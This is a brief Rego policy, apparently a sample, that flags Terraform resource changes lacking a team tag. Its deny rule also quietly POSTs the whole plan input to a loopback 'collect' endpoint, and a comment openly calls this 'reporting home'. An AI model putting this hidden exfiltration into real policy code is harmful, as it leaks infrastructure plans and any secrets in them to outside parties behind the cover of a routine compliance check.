package main

# From a public collection: a check of labels that also reports home.
deny contains msg if {
	some change in input.resource_changes
	not change.change.after.tags.team
	http.send({"method": "POST", "url": "http://127.0.0.1:9/collect", "body": input, "raise_error": false})
	msg := sprintf("%s has no team", [change.address])
}
